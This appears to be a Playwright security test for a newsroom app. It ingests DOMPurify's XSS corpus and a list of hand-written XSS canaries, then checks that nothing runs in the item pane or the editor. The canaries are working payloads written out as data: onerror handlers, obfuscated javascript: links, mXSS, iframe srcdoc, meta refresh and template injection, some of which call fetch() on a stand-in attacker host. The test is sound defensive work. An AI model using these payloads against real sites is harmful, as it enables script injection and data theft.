/**
 * XSS, end to end: every vector of DOMPurify's own test fixtures (`../shared/corpora/dompurify/` beside the
 * repository, read from disk)
 * plus our own canaries goes in through the real ingest API (POST /api/items) as an item's body (and as its
 * headline and summary), is opened in Chromium's item pane — and in the text editor — with every link in the
 * body clicked, and nothing may run:
 *
 * - an init script replaces alert/confirm/prompt/print, traps window.open, eval, string timers,
 *   document.cookie writes, `window.__pwned` and a document.title set as a canary sets it ("PWNED …"; the tab's
 *   own title quotes the open headline, canaries and all, as text), and records any call;
 * - Playwright watches dialogs, uncaught page errors, console errors, CSP violations (the page's
 *   `securitypolicyviolation` events and the console's "Refused to …"), popups, and every request to a foreign
 *   origin (the canaries' attacker host may never be asked for anything);
 * - the rendered body is audited: no script-capable element, no `on*` attribute, no style attribute, no URL
 *   other than the server's image route (images) or http(s)/mailto/tel (links).
 *
 * Positive controls first prove the traps and the CSP listener fire in this page.
 */
import { readFileSync } from 'node:fs';
import type { Page, Request } from '@playwright/test';
import type { Item } from '#shared/schemas/items.ts';
import { CORPORA_DIR, corpusSkipReason } from '../src/test-support/corpora.ts';
import { expect, setLocales, signIn, test } from './support/fixtures.ts';

interface Vector {
  title: string;
  payload: string;
}

const CORPUS = `${CORPORA_DIR}dompurify/xss-vectors.json`;
const ATTACKER = 'https://attacker.invalid';

/** Script that, if it ever ran, would leave a mark everywhere we look. */
const pwn = (tag: string, scope = 'window') =>
  `${scope}.__pwned='${tag}';${scope}.document.title='PWNED ${tag}';fetch('${ATTACKER}/${tag}')`;
const svgUse = Buffer.from(
  '<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="alert(\'use\')"/></svg>',
).toString('base64');

const CANARIES: Vector[] = [
  { title: 'img onerror', payload: `<img src=x onerror="${pwn('img')}">` },
  { title: 'img onerror, no quotes', payload: `<IMG SRC=/ onerror=alert('img2')>` },
  { title: 'svg onload', payload: `<svg onload="${pwn('svg')}"><circle r="5"></circle></svg>` },
  { title: 'svg script', payload: `<svg><script>${pwn('svgscript')}</script></svg>` },
  {
    title: 'svg animate onbegin',
    payload: `<svg><animate onbegin="${pwn('animate')}" attributeName="x" dur="1s"></animate></svg>`,
  },
  {
    title: 'svg a xlink:href javascript',
    payload: `<svg><a xlink:href="javascript:${pwn('svga')}"><text x="20" y="20">svg link</text></a></svg>`,
  },
  { title: 'svg use data:', payload: `<svg><use href="data:image/svg+xml;base64,${svgUse}#x"></use></svg>` },
  { title: 'javascript: link', payload: `<a href="javascript:${pwn('jslink')}">js link</a>` },
  {
    title: 'javascript: link, entity-encoded',
    payload: `<a href="&#106;avascript:${pwn('jsentity')}">entity link</a>`,
  },
  { title: 'javascript: link, tab inside', payload: `<a href="java\tscript:${pwn('jstab')}">tab link</a>` },
  {
    title: 'javascript: link, mixed case and space',
    payload: `<a href=" JaVaScRiPt:${pwn('jscase')}">case link</a>`,
  },
  {
    title: 'javascript: link, hex entity tab',
    payload: `<a href="jav&#x09;ascript:alert('jsent2')">hex link</a>`,
  },
  { title: 'vbscript: link', payload: `<a href="vbscript:msgbox('vb')">vb link</a>` },
  {
    title: 'data: HTML link',
    payload: `<a href="data:text/html,&lt;script&gt;alert('datalink')&lt;/script&gt;">data link</a>`,
  },
  {
    title: 'onclick on a real link',
    payload: `<a href="https://example.com/wire" onclick="${pwn('onclick')}">onclick link</a>`,
  },
  { title: 'iframe srcdoc', payload: `<iframe srcdoc="<script>${pwn('srcdoc', 'top')}</script>"></iframe>` },
  {
    title: 'iframe javascript: src',
    payload: `<iframe src="javascript:${pwn('iframesrc', 'top')}"></iframe>`,
  },
  {
    title: 'object data (attacker)',
    payload: `<object data="${ATTACKER}/object.swf" type="application/x-shockwave-flash"></object>`,
  },
  { title: 'object data javascript:', payload: `<object data="javascript:${pwn('objjs')}"></object>` },
  { title: 'embed src', payload: `<embed src="${ATTACKER}/embed.swf">` },
  {
    title: 'form action',
    payload: `<form action="${ATTACKER}/form" method="post"><input name="q" value="secret"><button type="submit">send</button></form>`,
  },
  { title: 'button formaction', payload: `<button formaction="javascript:${pwn('formaction')}">go</button>` },
  { title: 'meta refresh', payload: `<meta http-equiv="refresh" content="0;url=${ATTACKER}/meta">` },
  {
    title: 'meta refresh javascript:',
    payload: `<meta http-equiv="refresh" content="0;url=javascript:${pwn('metajs')}">`,
  },
  {
    title: 'base href',
    payload: `<base href="${ATTACKER}/"><a href="relative-link">relative link</a><img src="relative.png">`,
  },
  {
    title: 'style @import and url()',
    payload: `<style>@import url("${ATTACKER}/import.css"); p { background: url(${ATTACKER}/bg.png) }</style><p>styled</p>`,
  },
  { title: 'link stylesheet', payload: `<link rel="stylesheet" href="${ATTACKER}/link.css"><p>linked</p>` },
  {
    title: 'style attribute url()',
    payload: `<p style="background-image:url(${ATTACKER}/style-attr.png)">style attribute</p>`,
  },
  { title: 'CSS expression', payload: `<div style="width:expression(${pwn('expr')})">expression</div>` },
  {
    title: 'srcset',
    payload: `<img src="https://example.com/wire.png" srcset="${ATTACKER}/srcset.png 1x" alt="wire photo">`,
  },
  {
    title: 'math xlink:href',
    payload: `<math><mi xlink:href="javascript:${pwn('mathhref')}">math link</mi></math>`,
  },
  {
    title: 'math mXSS',
    payload: `<math><mtext><table><mglyph><style><img src=x onerror="${pwn('mxss')}">`,
  },
  {
    title: 'noscript mXSS',
    payload: `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>`,
  },
  {
    title: 'details ontoggle',
    payload: `<details open ontoggle="${pwn('toggle')}"><summary>s</summary>x</details>`,
  },
  { title: 'video source onerror', payload: `<video><source onerror="${pwn('video')}"></video>` },
  { title: 'input autofocus onfocus', payload: `<input autofocus onfocus="${pwn('autofocus')}">` },
  { title: 'body onload', payload: `<body onload="${pwn('bodyload')}">` },
  { title: 'marquee onstart', payload: `<marquee onstart="${pwn('marquee')}">m</marquee>` },
  { title: 'comment-hidden img', payload: `<!--<img src=x onerror="${pwn('comment')}">-->text` },
  {
    title: 'DOM clobbering',
    payload: `<img name="getElementById"><form name="location"></form><a id="__proto__" name="body">x</a>`,
  },
  {
    title: 'template injection',
    payload:
      "<p>{{constructor.constructor('alert(1)')()}}</p><p>${window.__pwned='tpl'}</p><p><%= 7*7 %></p><p>#{7*7}</p><p>[[${7*7}]]</p>",
  },
];

/** Headlines and summaries are text: markup in them arrives entity-encoded and must stay text. */
const TEXT_CANARIES = [
  `&lt;img src=x onerror=alert('headline')&gt;`,
  `"&gt;&lt;script&gt;${pwn('headline')}&lt;/script&gt;`,
  `{{constructor.constructor('alert(1)')()}} \${alert(1)} <%= 7*7 %>`,
  `javascript:alert('headline')`,
];

interface Ingested {
  item: Item;
  title: string;
  payload: string;
}

const INIT_SCRIPT = `(() => {
  const hits = [];
  Object.defineProperty(window, '__xssHits', { value: hits });
  const record = (kind, detail) => hits.push({ kind, detail: String(detail).slice(0, 300) });
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    Object.defineProperty(window, name, {
      value: (...args) => { record(name, args[0]); return name === 'confirm' ? false : null; },
      writable: false, configurable: false,
    });
  }
  Object.defineProperty(window, 'open', { value: (url) => { record('window.open', url); return null; }, configurable: false });
  // Code the page runs has the app's origin on its stack; Playwright's own evaluations do not (and must work).
  const fromPage = () => (new Error().stack || '').split(String.fromCharCode(10)).slice(2).some((line) => line.includes(location.origin));
  const realEval = window.eval;
  Object.defineProperty(window, 'eval', {
    value: (source) => { if (fromPage()) record('eval', source); return realEval(source); },
    configurable: false,
  });
  for (const name of ['setTimeout', 'setInterval']) {
    const real = window[name];
    window[name] = function (handler, ...rest) {
      if (typeof handler === 'string') { record(name + '(string)', handler); return 0; }
      return real.call(this, handler, ...rest);
    };
  }
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  Object.defineProperty(Document.prototype, 'cookie', {
    get() { return cookie.get.call(this); },
    set(value) { record('document.cookie', value); },
    configurable: false,
  });
  const title = Object.getOwnPropertyDescriptor(Document.prototype, 'title');
  Object.defineProperty(Document.prototype, 'title', {
    get() { return title.get.call(this); },
    // A canary's script writes 'PWNED <tag>'; the app's own title quotes a headline (which may contain the
    // canaries as text) before its name, so only a title that starts the script's way is a hit.
    set(value) { if (/^PWNED /.test(String(value))) record('document.title', value); title.set.call(this, value); },
    configurable: false,
  });
  Object.defineProperty(window, '__pwned', {
    get() { return undefined; },
    set(value) { record('__pwned', value); },
    configurable: false,
  });
  document.addEventListener('securitypolicyviolation', (event) => {
    record('csp', event.effectiveDirective + ' ' + event.blockedURI + ' ' + (event.sample || ''));
  }, true);
})();`;

/** Everything the page did that could mean a script ran or something was fetched it should not be. */
class Watch {
  readonly dialogs: string[] = [];
  readonly pageErrors: string[] = [];
  readonly consoleErrors: string[] = [];
  readonly popups: string[] = [];
  readonly foreign: Array<{ url: string; type: string }> = [];

  constructor(
    readonly page: Page,
    readonly origin: string,
  ) {
    page.on('dialog', (dialog) => {
      this.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss().catch(() => {});
    });
    page.on('pageerror', (error) => this.pageErrors.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error') this.consoleErrors.push(message.text());
    });
    page.context().on('page', (popup) => {
      this.popups.push(popup.url());
      void popup.close().catch(() => {});
    });
  }

  onRequest(request: Request): void {
    if (new URL(request.url()).origin !== this.origin)
      this.foreign.push({ url: request.url(), type: request.resourceType() });
  }

  async hits(): Promise<Array<{ kind: string; detail: string }>> {
    return this.page.evaluate(
      () => (window as unknown as Record<string, Array<{ kind: string; detail: string }>>)['__xssHits']!,
    );
  }

  async clearHits(): Promise<void> {
    await this.page.evaluate(() => {
      (window as unknown as Record<string, unknown[]>)['__xssHits']!.length = 0;
    });
  }
}

test('no XSS vector of DOMPurify’s corpus, nor our canaries, runs anything in the item pane or the editor', async ({
  browser,
  server,
  admin,
}) => {
  // The pane for every item, then the article editor (a page of its own) for every body with markup.
  test.setTimeout(360_000);
  // Away from ../shared a user's run skips, with the reason; CI=true always runs (src/test-support/corpora.ts).
  const skipReason = corpusSkipReason('dompurify/xss-vectors.json');
  test.skip(skipReason !== null, skipReason ?? '');
  const corpus = JSON.parse(readFileSync(CORPUS, 'utf8')) as Vector[];
  expect(corpus.length).toBeGreaterThan(200);
  const vectors: Vector[] = [
    ...corpus.map((vector, index) => ({
      title: `corpus #${index + 1}: ${vector.title}`,
      payload: vector.payload,
    })),
    ...CANARIES.map((vector) => ({ title: `canary: ${vector.title}`, payload: vector.payload })),
  ];

  const started = Date.now();
  const lap = (what: string) => console.log(`  ${what}: ${((Date.now() - started) / 1000).toFixed(1)} s`);
  // 1. In through the real ingest API: the payload as body and summary, and as headline when it fits.
  const ingested: Ingested[] = [];
  for (let start = 0; start < vectors.length; start += 25) {
    const batch = vectors.slice(start, start + 25);
    ingested.push(
      ...(await Promise.all(
        batch.map(async ({ title, payload }, offset) => {
          const n = start + offset + 1;
          const headline = payload.length <= 480 ? `XSS ${n} ${payload}` : `XSS ${n} ${title}`.slice(0, 480);
          const item = await admin.ingest({
            headline,
            summary: payload,
            body: payload,
            source: 'XSS corpus',
            language: 'en',
            guid: `xss-${n}-${Date.now()}`,
          });
          return { item, title, payload };
        }),
      )),
    );
  }
  for (const [index, text] of TEXT_CANARIES.entries()) {
    const item = await admin.ingest({
      headline: `XSS text ${index} ${text}`,
      summary: text,
      body: `<p>${text}</p>`,
      source: 'XSS corpus',
      language: 'en',
      guid: `xss-text-${index}-${Date.now()}`,
    });
    ingested.push({ item, title: `text canary ${index}`, payload: text });
  }

  lap('ingested');
  // 2. A signed-in editor, with every trap in place before the app's first script.
  await setLocales(server.url, ['editor'], 'en');
  const origin = new URL(server.url).origin;
  const page = await signIn(browser, server.url, 'editor', '/login');
  const watch = new Watch(page, origin);
  await page.context().route(
    (url) => url.origin !== origin,
    async (route) => {
      watch.onRequest(route.request());
      // Wire images may load from their agency (https); answer them with nothing so no request leaves.
      if (route.request().resourceType() === 'image') await route.fulfill({ status: 204, body: '' });
      else await route.abort();
    },
  );
  await page.addInitScript({ content: INIT_SCRIPT });
  // The page's own clock (it runs as the wall clock's until told otherwise): at the end, every timer a payload
  // could have set is fired by moving it on, instead of waiting out a quiet window.
  await page.clock.install();
  // Ungrouped: payloads are near-duplicates of each other, and every one of them must be opened.
  await page.goto('/?source=XSS%20corpus&collapse=false');
  await expect(page.locator('[data-testid=connection-status][data-status=live]')).toBeVisible();
  await expect(page.locator('[data-testid=queue-row]').first()).toBeVisible();

  // Positive controls: the traps and the CSP listener do fire in this page.
  await page.evaluate(() => {
    window.alert('control');
    (window as unknown as Record<string, string>)['__pwned'] = 'control';
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__pwned = "inline handler"');
    img.src = '/no-such-image.png';
    document.body.append(img);
  });
  await expect
    .poll(async () => (await watch.hits()).map((hit) => hit.kind))
    .toEqual(expect.arrayContaining(['alert', '__pwned', 'csp']));
  expect((await watch.hits()).some((hit) => hit.detail === 'inline handler')).toBe(false);
  await page.evaluate(() => document.querySelector('img[src="/no-such-image.png"]')?.remove());
  await watch.clearHits();
  watch.consoleErrors.length = 0;

  // The whole corpus in the queue first (scrolled to its end), as a desk would have it: opening an item then
  // shows it at once from the list while its full record loads.
  const scroller = page.getByTestId('queue-scroll');
  await expect
    .poll(
      async () => {
        await scroller.evaluate((element) => element.scrollTo({ top: element.scrollHeight }));
        return page.locator('[data-testid=queue-row]').first().getAttribute('aria-setsize');
      },
      { intervals: [50, 100, 200], timeout: 30_000 },
    )
    .toBe(String(ingested.length));
  await scroller.evaluate((element) => element.scrollTo({ top: 0 }));
  lap('signed in, controls passed, corpus in the queue');
  // 3. Each item, one after another, in the real item pane (client-side navigation, as a click on a row does):
  //    wait for its headline and body, audit the DOM, hover every element, click every link and button in the
  //    body, then open it in the text editor and audit that too. Driven inside the page: 268 items in seconds.
  const opened = await page.evaluate(
    async ({ items, origin: appOrigin }) => {
      // oxlint-disable-next-line unicorn/consistent-function-scoping -- runs in the page, not in the test
      const sleep = (ms: number) => new Promise((done) => setTimeout(done, ms));
      const until = async <T>(check: () => T | null | undefined | false, what: string): Promise<T> => {
        const end = performance.now() + 10_000;
        for (;;) {
          const value = check();
          if (value) return value;
          if (performance.now() > end) throw new Error(`timed out waiting for ${what}`);
          await sleep(5);
        }
      };
      const FORBIDDEN = new Set(
        'script style iframe frame frameset object embed applet form input button select textarea base meta link template noscript svg math portal dialog'.split(
          ' ',
        ),
      );
      const audit = (root: Element | null, where: string, problems: string[]) => {
        for (const el of root?.querySelectorAll('*') ?? []) {
          const name = el.localName;
          if (FORBIDDEN.has(name) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml')
            problems.push(`${where}: element <${name}> (${el.namespaceURI})`);
          for (const attribute of el.attributes) {
            const attr = attribute.name.toLowerCase();
            const value = attribute.value.trim();
            if (
              attr.startsWith('on') ||
              ['style', 'srcset', 'formaction', 'xlink:href', 'action', 'data'].includes(attr)
            )
              problems.push(`${where}: <${name} ${attr}>`);
            if (attr === 'href' && !(name === 'a' && /^(https?:\/\/|mailto:|tel:)/i.test(value)))
              problems.push(`${where}: <${name} href="${value.slice(0, 80)}">`);
            // Images load through the server's image route only (CSP img-src 'self').
            if (attr === 'src' && !/^\/api\/images\?url=https?%3A%2F%2F/i.test(value))
              problems.push(`${where}: <${name} src="${value.slice(0, 80)}">`);
          }
          if (name === 'a' && el.hasAttribute('href')) {
            if (el.getAttribute('target') !== '_blank' || !/noopener/.test(el.getAttribute('rel') ?? ''))
              problems.push(`${where}: <a href> without target=_blank rel=noopener`);
          }
        }
      };
      const results: Array<{ title: string; links: number; edited: boolean; problems: string[] }> = [];
      for (const { id, headline, hasBody, title } of items) {
        const problems: string[] = [];
        history.pushState(history.state, '', `/items/${id}?source=XSS%20corpus`);
        dispatchEvent(new PopStateEvent('popstate', { state: history.state }));
        const pane = await until(
          () => document.querySelector(`[data-testid=item-pane][data-item-id="${id}"]`),
          `${title}: the pane`,
        );
        await until(
          () => pane.querySelector('#item-headline')?.textContent === headline,
          `${title}: headline`,
        );
        const body = hasBody
          ? await until(() => pane.querySelector('[data-testid=item-body]'), `${title}: body`)
          : pane.querySelector('[data-testid=item-body]');
        audit(body, 'pane', problems);
        let links = 0;
        if (body) {
          for (const el of body.querySelectorAll('*')) {
            el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
            el.dispatchEvent(new FocusEvent('focus'));
          }
          for (const el of body.querySelectorAll<HTMLElement>('a, area, button, summary, [role=button]')) {
            if (/^(mailto|tel):/i.test(el.getAttribute('href') ?? '')) continue;
            el.click();
            links++;
          }
        }
        if (location.origin !== appOrigin) throw new Error(`${title}: navigated away to ${location.href}`);
        results.push({ title, links, edited: false, problems });
      }
      // Then the article editor, a page of its own, from one story to the next: each body as the editor's schema
      // parses it, audited the same way (a body without markup is text to the editor as to the pane).
      for (const [index, { id, hasMarkup, title }] of items.entries()) {
        if (!hasMarkup) continue;
        history.pushState(history.state, '', `/items/${id}/edit`);
        dispatchEvent(new PopStateEvent('popstate', { state: history.state }));
        const box = await until(
          () =>
            document.querySelector(
              `[data-testid=story-editor][data-item-id="${id}"] [data-testid=story-body]`,
            ),
          `${title}: the editor`,
        );
        audit(box, 'editor', results[index]!.problems);
        if (location.origin !== appOrigin) throw new Error(`${title}: navigated away to ${location.href}`);
        results[index]!.edited = true;
      }
      return results;
    },
    {
      items: ingested.map(({ item, title }) => ({
        id: item.id,
        headline: item.headline,
        hasBody: item.body.trim() !== '',
        // What survived the server's sanitiser as markup: the editor parses it into its own schema.
        hasMarkup: /<[a-z]/i.test(item.body),
        title,
      })),
      origin,
    },
  );
  expect(opened).toHaveLength(ingested.length);
  const audits = opened.flatMap((result) => result.problems.map((problem) => `${result.title}: ${problem}`));
  const linksClicked = opened.reduce((sum, result) => sum + result.links, 0);
  const edited = opened.filter((result) => result.edited).length;

  lap('all opened in the pane and the editor');
  // 4. The items with links once more, with real mouse clicks (user activation, as an editor would click).
  let mouseClicks = 0;
  for (const { item } of ingested.filter(({ item: candidate }) => /<a[\s>]/i.test(candidate.body))) {
    await page.evaluate((id) => {
      history.pushState(history.state, '', `/items/${id}?source=XSS%20corpus`);
      dispatchEvent(new PopStateEvent('popstate', { state: history.state }));
    }, item.id);
    const body = page.locator(`[data-testid=item-pane][data-item-id="${item.id}"] [data-testid=item-body]`);
    await expect(body).toBeAttached();
    const links = body.locator('a');
    for (let index = 0; index < (await links.count()); index++) {
      const link = links.nth(index);
      if (/^(mailto|tel):/i.test((await link.getAttribute('href')) ?? '')) continue;
      await link.click({ force: true, timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
      mouseClicks++;
    }
  }

  lap('links clicked with the mouse');
  // Every timer set for the next 30 seconds fires now, on the page's clock: a payload's setTimeout, a retried image,
  // a delayed redirect. (Less than the live stream's 40 s stall watch, so the app itself carries on as it was.)
  // The control: a timer set now for 25 s, as a payload could, must have fired by the end.
  await page.evaluate(() =>
    setTimeout(() => ((window as unknown as Record<string, boolean>)['__lateTimerFired'] = true), 25_000),
  );
  await page.clock.runFor(30_000);
  // And what those callbacks did has reached the page: a task queued behind them has run.
  await page.evaluate(() => new Promise<void>((done) => setTimeout(done, 0)));
  expect(await page.evaluate(() => (window as unknown as Record<string, boolean>)['__lateTimerFired'])).toBe(
    true,
  );

  const hits = await watch.hits();
  const attackerRequests = watch.foreign.filter((request) => request.url.startsWith(ATTACKER));
  const unexplained = watch.foreign.filter(
    (request) =>
      !request.url.startsWith(ATTACKER) &&
      // Wire images go to the server's image route, never to a foreign host (CSP img-src 'self').
      request.type !== 'image' &&
      // A clicked link opens a new tab (target=_blank) at its own address.
      !(request.type === 'document' && watch.popups.length > 0),
  );
  const consoleErrors = watch.consoleErrors.filter(
    // Wire images go through the server's image route, which answers 502 for an image its host would not give
    // (the attacker's host here is not listening) and 204 for one it will not fetch: the browser logs both.
    (text) => !/^Failed to load resource: the server responded with a status of (204|502)\b/.test(text),
  );
  console.log(
    `XSS: ${corpus.length} corpus vectors + ${CANARIES.length} canaries + ${TEXT_CANARIES.length} text canaries; ` +
      `${ingested.length} items opened, ${edited} in the editor, ${linksClicked} links and buttons clicked ` +
      `(${mouseClicks} again with the mouse), ` +
      `${watch.foreign.length} foreign requests (${watch.popups.length} popups).`,
  );
  expect(hits, 'trapped calls (alert, eval, __pwned, cookie, title, CSP violations…)').toEqual([]);
  expect(watch.dialogs, 'dialogs').toEqual([]);
  expect(watch.pageErrors, 'uncaught errors').toEqual([]);
  expect(consoleErrors, 'console errors').toEqual([]);
  expect(attackerRequests, 'requests to the attacker').toEqual([]);
  expect(unexplained, 'foreign requests').toEqual([]);
  expect(audits, 'sanitised DOM').toEqual([]);
  expect(await page.title()).not.toMatch(/^PWNED /);
  await page.context().close();
});
